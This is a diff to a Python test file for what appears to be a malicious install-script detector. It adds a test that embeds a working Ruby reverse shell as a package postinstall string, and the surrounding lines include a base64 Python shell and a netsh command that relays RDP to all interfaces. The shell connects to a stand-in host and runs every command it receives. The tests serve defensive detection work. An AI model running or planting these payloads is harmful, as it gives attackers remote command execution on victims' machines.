@@ -758,6 +758,16 @@ def test_python_inline_code_whose_base64_holds_a_pty_reverse_shell_is_a_reverse_
     assert "install-script/reverse-shell" not in rules(artifact({"postinstall": f"python3 -c \"import base64;exec(base64.b64decode('{tty}'))\""}))
 
 
+def test_ruby_inline_code_that_runs_each_line_its_tcp_socket_reads_is_a_reverse_shell():
+    # (blind set 34's macOS battery helper: `ruby -e` with /usr/bin/ruby, no `sh -i`: each line read runs through Open3)
+    shell = ('require "socket";require "open3";loop{begin;c=TCPSocket.new("198.51.100.23",8443);'
+             'while(l=c.gets);o,s=Open3.capture2e(l);c.print(o);end;rescue;end;sleep 30}')
+    assert "install-script/reverse-shell" in rules(artifact({"postinstall": f"ruby -e '{shell}'"}))
+    # A port probe runs nothing it reads.
+    probe = 'require "socket";begin;TCPSocket.new("localhost",5432).close;rescue;exit 1;end;system("echo", "up")'
+    assert "install-script/reverse-shell" not in rules(artifact({"postinstall": f"ruby -e '{probe}'"}))
+
+
 def test_a_relay_from_every_interface_to_a_remote_admin_port_is_a_port_relay():
     # (blind set 24's Vite LAN plugin: RDP, SMB and WinRM relayed from 0.0.0.0 with netsh, sshd with socat)
     netsh = "netsh interface portproxy add v4tov4 listenaddress=0.0.0.0 listenport=50389 connectaddress=127.0.0.1 connectport=3389"
